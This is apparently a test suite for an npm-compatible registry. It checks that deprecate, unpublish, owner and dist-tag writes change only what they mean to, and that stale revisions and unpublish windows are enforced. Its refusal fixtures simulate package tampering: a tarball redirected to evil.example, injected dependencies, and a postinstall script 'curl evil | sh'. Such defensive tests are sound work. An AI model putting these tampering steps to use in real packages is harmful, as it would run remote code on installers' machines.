// npm's metadata writes send the whole document back (deprecate, unpublish, owners) or touch one
// tag. Each must apply only the change it means: anything else it tries to rewrite is refused
// with nothing changed, and the tag and unpublish policies hold. On both storage pairs, with a
// clock the tests move forward.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createTestApp, type TestApp } from '../helpers/test-app.js';
import { storagePairs } from '../helpers/storage.js';
import { escapeName, npmPublish, putJson, sendJson, type JsonResponse } from '../helpers/tarball.js';
import { assertRefused, snapshot } from './refusals.js';

const HOUR = 3_600_000;
const CORGI = 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*';

/** Real time plus an offset the tests push forward. */
class MovableClock {
  offsetMs = 0;
  now(): Date {
    return new Date(Date.now() + this.offsetMs);
  }
  advance(ms: number): void {
    this.offsetMs += ms;
  }
}

type Doc = Record<string, any>;

for (const storage of storagePairs) {
  describe(`npm metadata writes on ${storage}`, () => {
    let t: TestApp;
    let alice: { id: number; token: string };
    let bob: { id: number; token: string };
    const clock = new MovableClock();

    before(async () => {
      t = await createTestApp({ storage, clock });
      alice = await t.createUser('alice');
      bob = await t.createUser('bob');
    });
    after(async () => t?.close());

    async function published(name: string, version: string, extra: Record<string, unknown> = {}, token = alice.token) {
      const { body } = await npmPublish({ name, version, ...extra });
      const response = await putJson(`${t.url}/${escapeName(name)}`, body, token);
      assert.equal(response.status, 201, `publish ${name}@${version}: ${response.text}`);
    }

    /** What `npm deprecate` / `npm unpublish` read first. */
    async function docForWrite(name: string, token = alice.token): Promise<Doc> {
      const response = await sendJson('GET', `${t.url}/${escapeName(name)}?write=true`, undefined, token);
      assert.equal(response.status, 200, response.text);
      return response.json;
    }

    /** The document as a client sees it, unauthenticated, both forms. */
    async function publicDocs(name: string): Promise<{ full: Doc; corgi: Doc }> {
      const full = await fetch(`${t.url}/${escapeName(name)}`, { headers: { accept: 'application/json' } });
      const corgi = await fetch(`${t.url}/${escapeName(name)}`, { headers: { accept: CORGI } });
      assert.equal(full.status, 200);
      assert.equal(corgi.status, 200);
      return { full: await full.json(), corgi: await corgi.json() };
    }

    const putDoc = (name: string, doc: Doc, token = alice.token) => putJson(`${t.url}/${escapeName(name)}`, doc, token);
    const putRev = (name: string, rev: string, doc: Doc, token = alice.token) =>
      putJson(`${t.url}/${escapeName(name)}/-rev/${encodeURIComponent(rev)}`, doc, token);

    /** npm unpublish <name>@<version>'s PUT: the document minus the version, latest moved. */
    function withoutVersion(doc: Doc, version: string): Doc {
      const copy = structuredClone(doc);
      delete copy.versions[version];
      for (const [tag, v] of Object.entries(copy['dist-tags'])) if (v === version) delete copy['dist-tags'][tag];
      copy['dist-tags'].latest ??= Object.keys(copy.versions).at(-1);
      delete copy._attachments;
      delete copy._revisions;
      return copy;
    }

    /** A refusal that also leaves the document exactly as it was, _rev included. */
    async function assertRefusedUnchanged(name: string, send: () => Promise<JsonResponse>, status: number, code: string) {
      const before = await publicDocs(name);
      await assertRefused(t, send, status, code);
      assert.deepEqual(await publicDocs(name), before, 'the package documents are unchanged');
    }

    // --- deprecate -----------------------------------------------------------------------

    test('a deprecate PUT sets the message, shows it in both documents, and an empty one clears it', async () => {
      const name = 'md-deprecate';
      await published(name, '1.0.0');
      await published(name, '1.0.1');
      const doc = await docForWrite(name);
      doc.versions['1.0.0'].deprecated = 'use 1.0.1';
      const before = await snapshot(t);
      const response = await putDoc(name, doc);
      assert.equal(response.status, 200, response.text);
      const { full, corgi } = await publicDocs(name);
      assert.equal(full.versions['1.0.0'].deprecated, 'use 1.0.1');
      assert.equal(corgi.versions['1.0.0'].deprecated, 'use 1.0.1');
      assert.equal(full.versions['1.0.1'].deprecated, undefined);
      assert.equal(corgi.versions['1.0.1'].deprecated, undefined);
      const events = (await t.events()).slice(before.events.length);
      assert.deepEqual(events, [{ type: 'version:deprecate', subject: `npm:${name}@1.0.0` }]);

      const again = await docForWrite(name);
      again.versions['1.0.0'].deprecated = '';
      assert.equal((await putDoc(name, again)).status, 200);
      assert.equal((await publicDocs(name)).full.versions['1.0.0'].deprecated, undefined);
    });

    test('a deprecate PUT applies only the deprecation: other edits in the document are ignored', async () => {
      const name = 'md-deprecate-only';
      await published(name, '1.0.0', { description: 'the original', bin: { tool: 'cli.js' } });
      await published(name, '1.0.1', { description: 'the original' });
      const before = await publicDocs(name);
      const doc = await docForWrite(name);
      doc.versions['1.0.1'].deprecated = 'broken';
      // Everything else npm would never change here, changed anyway.
      doc.description = 'rewritten';
      doc['dist-tags'] = { latest: '1.0.0', evil: '1.0.1' };
      doc.maintainers = [{ name: 'bob', email: 'bob@example.test' }];
      doc.readme = '# rewritten';
      doc.time['1.0.0'] = '2000-01-01T00:00:00.000Z';
      doc.versions['1.0.0'].description = 'rewritten';
      doc.versions['1.0.0'].bin = { tool: 'evil.js' };
      doc.versions['1.0.0'].hasInstallScript = true;
      doc.versions['1.0.0']._npmUser = { name: 'bob', email: 'bob@example.test' };
      doc.versions['1.0.0'].dist.unpackedSize = 1;
      const response = await putDoc(name, doc);
      assert.equal(response.status, 200, response.text);
      const afterwards = await publicDocs(name);
      // Only the deprecation, the revision and the modification time may differ.
      const strip = (d: { full: Doc; corgi: Doc }) => {
        const copy = structuredClone(d);
        delete copy.full._rev;
        delete copy.full.time.modified;
        delete copy.corgi.modified;
        delete copy.full.versions['1.0.1'].deprecated;
        delete copy.corgi.versions['1.0.1'].deprecated;
        return copy;
      };
      assert.equal(afterwards.full.versions['1.0.1'].deprecated, 'broken');
      assert.deepEqual(strip(afterwards), strip(before));
      const tags = await sendJson('GET', `${t.url}/-/package/${name}/dist-tags`, undefined);
      assert.deepEqual(tags.json, { latest: '1.0.1' });
    });

    // A deprecation of 1.0.1 riding along with an edit of 1.0.0 that must not happen.
    const forbiddenEdits: Array<[string, (v: Doc) => void]> = [
      ['dist.tarball', (v) => (v.dist.tarball = 'https://evil.example/x-1.0.0.tgz')],
      ['dist.integrity', (v) => (v.dist.integrity = `sha512-${Buffer.alloc(64, 1).toString('base64')}`)],
      ['dist.shasum', (v) => (v.dist.shasum = '0'.repeat(40))],
      ['dependencies (one added)', (v) => (v.dependencies = { ...(v.dependencies ?? {}), 'evil-dep': '*' })],
      ['dependencies (a range changed)', (v) => (v.dependencies = { 'left-pad': '*' })],
      ['optionalDependencies', (v) => (v.optionalDependencies = { 'evil-dep': '*' })],
      ['peerDependencies', (v) => (v.peerDependencies = { 'evil-dep': '*' })],
      ['scripts (an install script)', (v) => (v.scripts = { ...(v.scripts ?? {}), postinstall: 'curl evil | sh' })],
      ['name', (v) => (v.name = 'md-someone-else')],
      ['version', (v) => (v.version = '9.9.9')],
    ];
    forbiddenEdits.forEach(([label, edit], i) => {
      test(`a deprecate PUT that also changes another version's ${label}: 400 METADATA_WRITE_INVALID, nothing changed`, async () => {
        const name = `md-forbidden-${i}`;
        await published(name, '1.0.0', { dependencies: { 'left-pad': '^1.0.0' } });
        await published(name, '1.0.1');
        const doc = await docForWrite(name);
        doc.versions['1.0.1'].deprecated = 'deprecating 1.0.1 is fine';
        edit(doc.versions['1.0.0']);
        await assertRefusedUnchanged(name, () => putDoc(name, doc), 400, 'METADATA_WRITE_INVALID');
      });
    });

    test('an unpublish PUT that also changes a remaining version: 400 METADATA_WRITE_INVALID, nothing changed', async () => {
      const name = 'md-unpublish-and-edit';
      await published(name, '1.0.0');
      await published(name, '1.0.1');
      const doc = withoutVersion(await docForWrite(name), '1.0.1');
      doc.versions['1.0.0'].dist.tarball = 'https://evil.example/x.tgz';
      await assertRefusedUnchanged(name, () => putRev(name, doc._rev, doc), 400, 'METADATA_WRITE_INVALID');
    });

    test('a deprecate PUT with a stale _rev: 409 REVISION_CONFLICT', async () => {
      const name = 'md-stale';
      await published(name, '1.0.0');
      const stale = await docForWrite(name);
      const tagged = await putJson(`${t.url}/-/package/${name}/dist-tags/next`, JSON.stringify('1.0.0'), alice.token);
      assert.equal(tagged.status, 200, tagged.text);
      assert.notEqual((await docForWrite(name))._rev, stale._rev, 'the tag moved the revision');
      stale.versions['1.0.0'].deprecated = 'too late';
      await assertRefusedUnchanged(name, () => putDoc(name, stale), 409, 'REVISION_CONFLICT');
    });

    test('an unpublish PUT to a stale /-rev/: 409 REVISION_CONFLICT', async () => {
      const name = 'md-stale-rev';
      await published(name, '1.0.0');
      await published(name, '1.0.1');
      const stale = await docForWrite(name);
      const tagged = await putJson(`${t.url}/-/package/${name}/dist-tags/next`, JSON.stringify('1.0.0'), alice.token);
      assert.equal(tagged.status, 200, tagged.text);
      const doc = withoutVersion(stale, '1.0.1');
      await assertRefusedUnchanged(name, () => putRev(name, stale._rev, doc), 409, 'REVISION_CONFLICT');
    });

    test('a document PUT that adds a version: 400 METADATA_WRITE_INVALID', async () => {
      const name = 'md-add-version';
      await published(name, '1.0.0');
      const doc = await docForWrite(name);
      doc.versions['2.0.0'] = { ...structuredClone(doc.versions['1.0.0']), version: '2.0.0', _id: `${name}@2.0.0` };
      doc['dist-tags'].latest = '2.0.0';
      await assertRefusedUnchanged(name, () => putDoc(name, doc), 400, 'METADATA_WRITE_INVALID');
    });

    test('a /-rev/ PUT that adds a version: 400 METADATA_WRITE_INVALID', async () => {
      const name = 'md-add-version-rev';
      await published(name, '1.0.0');
      await published(name, '1.0.1');
      const doc = withoutVersion(await docForWrite(name), '1.0.1');
      doc.versions['2.0.0'] = { ...structuredClone(doc.versions['1.0.0']), version: '2.0.0', _id: `${name}@2.0.0` };
      await assertRefusedUnchanged(name, () => putRev(name, doc._rev, doc), 400, 'METADATA_WRITE_INVALID');
    });

    test("a deprecate PUT by someone who does not own the package: 403 NOT_PERMITTED", async () => {
      const name = 'md-deprecate-other';
      await published(name, '1.0.0');
      const doc = await docForWrite(name, bob.token);
      doc.versions['1.0.0'].deprecated = 'bob says no';
      await assertRefusedUnchanged(name, () => putDoc(name, doc, bob.token), 403, 'NOT_PERMITTED');
    });

    // --- owners --------------------------------------------------------------------------

    test('an owner change by a non-owner (adding themself): 403 NOT_PERMITTED, owners unchanged', async () => {
      const name = 'md-owners-add';
      await published(name, '1.0.0');
      const doc = await docForWrite(name, bob.token);
      const body = { _id: name, _rev: doc._rev, maintainers: [...doc.maintainers, { name: 'bob', email: 'bob@example.test' }] };
      await assertRefusedUnchanged(name, () => putRev(name, doc._rev, body, bob.token), 403, 'NOT_PERMITTED');
      assert.deepEqual((await docForWrite(name)).maintainers.map((m: { name: string }) => m.name), ['alice']);
    });

    test('an owner change by a non-owner (replacing the owner): 403 NOT_PERMITTED, owners unchanged', async () => {
      const name = 'md-owners-replace';
      await published(name, '1.0.0');
      const doc = await docForWrite(name, bob.token);
      const body = { _id: name, _rev: doc._rev, maintainers: [{ name: 'bob', email: 'bob@example.test' }] };
      await assertRefusedUnchanged(name, () => putRev(name, doc._rev, body, bob.token), 403, 'NOT_PERMITTED');
      assert.deepEqual((await docForWrite(name)).maintainers.map((m: { name: string }) => m.name), ['alice']);
    });

    // --- dist-tags -----------------------------------------------------------------------

    for (const tag of ['1.x', 'v2', '^1.0.0', '*']) {
      test(`a dist-tag that reads as a semver range (${tag}): 400 TAG_INVALID`, async () => {
        const name = `md-tag-range-${tag.replace(/\W/g, '_')}`;
        await published(name, '1.0.0');
        const url = `${t.url}/-/package/${name}/dist-tags/${encodeURIComponent(tag)}`;
        await assertRefusedUnchanged(name, () => putJson(url, JSON.stringify('1.0.0'), alice.token), 400, 'TAG_INVALID');
      });
    }

    test('a dist-tag "%" (escaped as %25): 400 TAG_INVALID, not a server error', async () => {
      // The router already decodes the tag once; decoding it again must not throw.
      const name = 'md-tag-percent';
      await published(name, '1.0.0');
      const url = `${t.url}/-/package/${name}/dist-tags/%25`;
      await assertRefusedUnchanged(name, () => putJson(url, JSON.stringify('1.0.0'), alice.token), 400, 'TAG_INVALID');
    });

    test('deleting the latest tag: 403 TAG_REQUIRED', async () => {
      const name = 'md-tag-latest';
      await published(name, '1.0.0');
      const url = `${t.url}/-/package/${name}/dist-tags/latest`;
      await assertRefusedUnchanged(name, () => sendJson('DELETE', url, undefined, alice.token), 403, 'TAG_REQUIRED');
    });

    // --- unpublish policy ----------------------------------------------------------------

    test('sanity: a version 71 hours old can still be unpublished', async () => {
      const name = 'md-window-open';
      await published(name, '1.0.0');
      await published(name, '1.0.1');
      clock.advance(71 * HOUR);
      const doc = withoutVersion(await docForWrite(name), '1.0.1');
      const response = await putRev(name, doc._rev, doc);
      assert.equal(response.status, 200, response.text);
      assert.deepEqual(Object.keys((await docForWrite(name)).versions), ['1.0.0']);
    });

    test('a version older than 72 hours cannot be unpublished (one version): 403 UNPUBLISH_WINDOW_CLOSED', async () => {
      const name = 'md-window-closed';
      await published(name, '1.0.0');
      await published(name, '1.0.1');
      clock.advance(73 * HOUR);
      const doc = withoutVersion(await docForWrite(name), '1.0.1');
      await assertRefusedUnchanged(name, () => putRev(name, doc._rev, doc), 403, 'UNPUBLISH_WINDOW_CLOSED');
    });

    test('a package older than 72 hours cannot be unpublished whole: 403 UNPUBLISH_WINDOW_CLOSED', async () => {
      const name = 'md-window-closed-all';
      await published(name, '1.0.0');
      clock.advance(73 * HOUR);
      const doc = await docForWrite(name);
      const url = `${t.url}/${name}/-rev/${doc._rev}`;
      await assertRefusedUnchanged(name, () => sendJson('DELETE', url, undefined, alice.token), 403, 'UNPUBLISH_WINDOW_CLOSED');
    });

    test('a version another package depends on cannot be unpublished: 403 UNPUBLISH_HAS_DEPENDENTS', async () => {
      const name = 'md-depended-on';
      await published(name, '1.0.0');
      await published(name, '1.0.1');
      await published('md-dependent', '1.0.0', { dependencies: { [name]: '^1.0.0' } }, bob.token);
      const doc = withoutVersion(await docForWrite(name), '1.0.1');
      await assertRefusedUnchanged(name, () => putRev(name, doc._rev, doc), 403, 'UNPUBLISH_HAS_DEPENDENTS');
    });
  });
}
